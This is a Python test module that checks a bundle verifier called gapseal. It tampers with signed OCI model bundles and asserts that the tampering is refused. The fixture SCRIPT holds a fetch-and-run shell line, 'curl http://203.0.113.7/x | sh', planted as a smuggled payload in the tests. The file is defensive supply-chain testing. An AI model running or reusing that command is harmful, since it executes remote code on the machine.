"""The exact file set is exact: every blob and index.json entry is the signed content or its signature, nothing more.

Each case adds, removes or re-lists something next to a genuine signed bundle and asserts verify's exit code and that
the message names the extra or missing thing. A signature referrer may carry a Sigstore bundle and nothing else.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from gapseal.bundler import layout as oci
from gapseal.bundler.archive import pack_layout
from gapseal.canonical import canonical_json
from tests.adversarial.conftest import Gapseal, refused
from tests.adversarial.forge import Layout, signature_entry
from tests.bundles import KeyPair

SCRIPT = b"#!/bin/sh\ncurl http://203.0.113.7/x | sh\n"


def _referrer(layout: Layout, manifest: dict[str, Any]) -> dict[str, Any]:
    """Store a hand-made referrer manifest; return its index entry (as a signature)."""
    data = canonical_json(manifest)
    return {
        "mediaType": oci.MEDIA_MANIFEST,
        "digest": layout.add_blob(data),
        "size": len(data),
        "artifactType": oci.ARTIFACT_SIGSTORE,
    }


def _sig_manifest(layout: Layout) -> dict[str, Any]:
    return layout.json_blob(layout.signature_entries()[0]["digest"])


def _replace_signature(layout: Layout, manifest: dict[str, Any]) -> None:
    index = layout.index()
    index["manifests"] = [m for m in index["manifests"] if m.get("artifactType") != oci.ARTIFACT_SIGSTORE]
    index["manifests"].append(_referrer(layout, manifest))
    layout.write_index(index)


def _script_layer(layout: Layout) -> dict[str, Any]:
    return {"mediaType": "text/x-shellscript", "digest": layout.add_blob(SCRIPT), "size": len(SCRIPT)}


def junk_blob(layout: Layout) -> None:
    layout.add_blob(SCRIPT)


def junk_top_level_file(layout: Layout) -> None:
    (layout.root / "install.sh").write_bytes(SCRIPT)


def junk_in_other_algorithm_dir(layout: Layout) -> None:
    (layout.root / "blobs" / "sha512").mkdir()
    (layout.root / "blobs" / "sha512" / ("0" * 128)).write_bytes(SCRIPT)


def blob_with_a_non_digest_name(layout: Layout) -> None:
    (layout.root / "blobs" / "sha256" / "run.sh").write_bytes(SCRIPT)


def blob_with_an_upper_case_digest_name(layout: Layout) -> None:
    digest = oci.sha256_digest(SCRIPT).removeprefix("sha256:").upper()
    (layout.root / "blobs" / "sha256" / digest).write_bytes(SCRIPT)


def missing_weight_blob(layout: Layout) -> None:
    weight = next(e for e in layout.manifest()["layers"] if e["mediaType"] == oci.MEDIA_MODEL_WEIGHT)
    layout.remove_blob(weight["digest"])


def missing_signature_blob(layout: Layout) -> None:
    layout.remove_blob(layout.signature_blob_digests()[0])


def missing_oci_layout(layout: Layout) -> None:
    (layout.root / "oci-layout").unlink()


def altered_oci_layout(layout: Layout) -> None:
    (layout.root / "oci-layout").write_bytes(b'{"imageLayoutVersion":"9.9.9"}')


def missing_index(layout: Layout) -> None:
    (layout.root / "index.json").unlink()


def signature_listed_twice(layout: Layout) -> None:
    index = layout.index()
    index["manifests"].append(dict(layout.signature_entries()[0]))
    layout.write_index(index)


def bundle_manifest_listed_twice(layout: Layout) -> None:
    index = layout.index()
    index["manifests"].append(dict(layout.bundle_entry()))
    layout.write_index(index)


def second_bundle_manifest_under_the_bundle_name(layout: Layout) -> None:
    index = layout.index()
    other = canonical_json({**layout.manifest(), "annotations": {"x": "y"}})
    entry = {**layout.bundle_entry(), "digest": layout.add_blob(other), "size": len(other)}
    index["manifests"].append(entry)
    layout.write_index(index)


def no_bundle_manifest(layout: Layout) -> None:
    index = layout.index()
    index["manifests"] = [m for m in index["manifests"] if m["digest"] != layout.bundle_entry()["digest"]]
    layout.write_index(index)


def unsigned(layout: Layout) -> None:
    index = layout.index()
    index["manifests"] = [layout.bundle_entry()]
    layout.write_index(index)


def referrer_with_a_second_layer(layout: Layout) -> None:
    manifest = _sig_manifest(layout)
    manifest["layers"].append(_script_layer(layout))
    _replace_signature(layout, manifest)


def referrer_whose_only_layer_is_a_script(layout: Layout) -> None:
    manifest = _sig_manifest(layout)
    manifest["layers"] = [{**_script_layer(layout), "mediaType": oci.ARTIFACT_SIGSTORE}]
    _replace_signature(layout, manifest)


def referrer_with_a_script_media_type(layout: Layout) -> None:
    manifest = _sig_manifest(layout)
    manifest["layers"][0]["mediaType"] = "text/x-shellscript"
    _replace_signature(layout, manifest)


def referrer_with_a_script_as_config(layout: Layout) -> None:
    manifest = _sig_manifest(layout)
    manifest["config"] = {"mediaType": oci.MEDIA_EMPTY, "digest": layout.add_blob(SCRIPT), "size": len(SCRIPT)}
    _replace_signature(layout, manifest)


def referrer_with_no_layer(layout: Layout) -> None:
    manifest = _sig_manifest(layout)
    manifest["layers"] = []
    _replace_signature(layout, manifest)


def referrer_of_another_manifest(layout: Layout) -> None:
    manifest = _sig_manifest(layout)
    manifest["subject"] = {**manifest["subject"], "digest": oci.sha256_digest(SCRIPT)}
    _replace_signature(layout, manifest)


def referrer_with_a_wrong_subject_size(layout: Layout) -> None:
    manifest = _sig_manifest(layout)
    manifest["subject"] = {**manifest["subject"], "size": manifest["subject"]["size"] + 1}
    _replace_signature(layout, manifest)


def referrer_with_an_unknown_field(layout: Layout) -> None:
    manifest = _sig_manifest(layout)
    manifest["payload"] = SCRIPT.decode()
    _replace_signature(layout, manifest)


def other_artifact_in_the_index(layout: Layout) -> None:
    index = layout.index()
    entry = _referrer(layout, {**_sig_manifest(layout), "artifactType": "application/x-sh"})
    index["manifests"].append({**entry, "artifactType": "application/x-sh"})
    layout.write_index(index)


def signature_entry_with_an_annotation(layout: Layout) -> None:
    index = layout.index()
    for m in index["manifests"]:
        if m.get("artifactType") == oci.ARTIFACT_SIGSTORE:
            m["annotations"] = {oci.ANNOTATION_REF_NAME: "latest"}
    layout.write_index(index)


def one_image_name_listed_twice(layout: Layout) -> None:
    """Two entries named 'backdoor' (different content): a name may stand for one image only."""
    index = layout.index()
    for n in (1, 2):
        doc = canonical_json({"schemaVersion": 2, "mediaType": oci.MEDIA_MANIFEST, "config": {}, "layers": [], "n": n})
        index["manifests"].insert(
            1,
            {
                "mediaType": oci.MEDIA_MANIFEST,
                "digest": layout.add_blob(doc),
                "size": len(doc),
                "annotations": {oci.ANNOTATION_REF_NAME: "backdoor"},
            },
        )
    layout.write_index(index)


def unsigned_image_in_the_index(layout: Layout) -> None:
    doc = canonical_json({"schemaVersion": 2, "mediaType": oci.MEDIA_MANIFEST, "config": {}, "layers": []})
    index = layout.index()
    index["manifests"].insert(
        1,
        {
            "mediaType": oci.MEDIA_MANIFEST,
            "digest": layout.add_blob(doc),
            "size": len(doc),
            "annotations": {oci.ANNOTATION_REF_NAME: "backdoor"},
        },
    )
    layout.write_index(index)


def nine_signatures(layout: Layout) -> None:
    index = layout.index()
    sig = layout.blob(layout.signature_blob_digests()[0])
    for i in range(8):
        variant = json.loads(sig)
        variant["verificationMaterial"]["publicKey"]["hint"] = f"copy-{i}"
        index["manifests"].append(signature_entry(layout, layout.bundle_entry(), canonical_json(variant)))
    layout.write_index(index)


def index_reordered(layout: Layout) -> None:
    index = layout.index()
    index["manifests"].reverse()
    layout.write_index(index)


def index_with_an_extra_field(layout: Layout) -> None:
    layout.write_index({**layout.index(), "annotations": {"org.example.run": "install.sh"}})


def index_reformatted(layout: Layout) -> None:
    layout.write_index(json.dumps(layout.index(), indent=2).encode())


def signature_manifest_over_its_size_cap(layout: Layout) -> None:
    manifest = _sig_manifest(layout)
    manifest["annotations"] = {"padding": "x" * 70_000}
    _replace_signature(layout, manifest)


def symlinked_blob(layout: Layout) -> None:
    target = layout.root / oci.blob_path(layout.signature_blob_digests()[0])
    link = layout.root / "blobs" / "sha256" / ("f" * 64)
    os.symlink(target, link)


CASES: dict[str, tuple[Callable[[Layout], None], tuple[str, ...]]] = {
    "junk-blob": (junk_blob, ("unexpected file not referenced by the signed bundle",)),
    "junk-top-level-file": (junk_top_level_file, ("unexpected file in the layout: install.sh",)),
    "junk-in-sha512-dir": (junk_in_other_algorithm_dir, ("unexpected file in the layout: blobs/sha512/",)),
    "blob-with-non-digest-name": (blob_with_a_non_digest_name, ("unexpected file in the layout: blobs/sha256/run.sh",)),
    "blob-with-upper-case-name": (blob_with_an_upper_case_digest_name, ("unexpected file in the layout",)),
    "missing-weight-blob": (missing_weight_blob, ("missing blob for models/tiny/model.safetensors",)),
    "missing-signature-blob": (missing_signature_blob, ("Sigstore bundle is missing",)),
    "missing-oci-layout": (missing_oci_layout, ("oci-layout is missing",)),
    "altered-oci-layout": (altered_oci_layout, ("oci-layout has been altered",)),
    "missing-index": (missing_index, ("index.json is missing",)),
    "signature-listed-twice": (signature_listed_twice, ("index.json lists", "twice")),
    "bundle-manifest-listed-twice": (bundle_manifest_listed_twice, ("index.json lists", "twice")),
    "two-bundle-manifests": (second_bundle_manifest_under_the_bundle_name, ("exactly one 'gapseal-bundle'", "found 2")),
    "no-bundle-manifest": (no_bundle_manifest, ("exactly one 'gapseal-bundle'", "found 0")),
    "unsigned": (unsigned, ("not signed",)),
    "referrer-with-a-second-layer": (referrer_with_a_second_layer, ("it carries 2 layers",)),
    "referrer-layer-is-a-script": (referrer_whose_only_layer_is_a_script, ("not carry a well-formed Sigstore",)),
    "referrer-script-media-type": (referrer_with_a_script_media_type, ("text/x-shellscript layer",)),
    "referrer-script-as-config": (referrer_with_a_script_as_config, ("unexpected config",)),
    "referrer-with-no-layer": (referrer_with_no_layer, ("it carries 0 layers",)),
    "referrer-of-another-manifest": (referrer_of_another_manifest, ("refers to another manifest",)),
    "referrer-wrong-subject-size": (referrer_with_a_wrong_subject_size, ("refers to another manifest",)),
    "referrer-unknown-field": (referrer_with_an_unknown_field, ("signature manifest #1", "malformed", "payload")),
    "other-artifact-in-index": (other_artifact_in_the_index, ("unexpected manifest", "application/x-sh")),
    "signature-entry-with-annotation": (signature_entry_with_an_annotation, ("unexpected manifest",)),
    "image-name-listed-twice": (one_image_name_listed_twice, ("index.json names 'backdoor' twice",)),
    "unsigned-image-in-index": (unsigned_image_in_the_index, ("image the signed bundle does not hold: 'backdoor'",)),
    "nine-signatures": (nine_signatures, ("lists 9 signatures; at most 8",)),
    "index-reordered": (index_reordered, ("index.json has been edited",)),
    "index-extra-field": (index_with_an_extra_field, ("index.json is malformed", "annotations")),
    "index-reformatted": (index_reformatted, ("index.json has been edited",)),
    "signature-manifest-too-large": (signature_manifest_over_its_size_cap, ("over the 65536-byte limit",)),
    "symlinked-blob": (symlinked_blob, ("symbolic link",)),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_verify_refuses_a_layout_that_is_not_exactly_the_signed_set(
    case: str, bundle: Path, keys: KeyPair, gapseal: Gapseal
) -> None:
    edit, fragments = CASES[case]
    edit(Layout(bundle))
    refused(gapseal("bundle", "verify", bundle, "--key", keys.public_path), *fragments)


@pytest.mark.parametrize(
    "case", ["junk-blob", "referrer-with-a-second-layer", "unsigned-image-in-index", "signature-listed-twice"]
)
def test_the_tar_form_is_held_to_the_same_set(
    case: str, tmp_path: Path, bundle: Path, keys: KeyPair, gapseal: Gapseal
) -> None:
    """A smuggled blob or referrer packed into the tar is refused there, and unpack --key writes nothing."""
    edit, fragments = CASES[case]
    edit(Layout(bundle))
    pack_layout(bundle, tmp_path / "b.tar", mtime=1767225600)
    refused(gapseal("bundle", "verify", tmp_path / "b.tar", "--key", keys.public_path), *fragments)
    refused(gapseal("bundle", "unpack", tmp_path / "b.tar", "--out", tmp_path / "u", "--key", keys.public_path))
    assert not (tmp_path / "u").exists()


def test_a_referrer_carrying_a_script_never_leaves_the_bundle(
    tmp_path: Path, bundle: Path, keys: KeyPair, gapseal: Gapseal
) -> None:
    """The issue's example: the script rides in a referrer; verify and extract refuse, nothing is written."""
    referrer_with_a_second_layer(Layout(bundle))
    out = tmp_path / "x"
    refused(gapseal("bundle", "extract", bundle, "--files", "docs", "--out", out, "--key", keys.public_path))
    assert not out.exists()
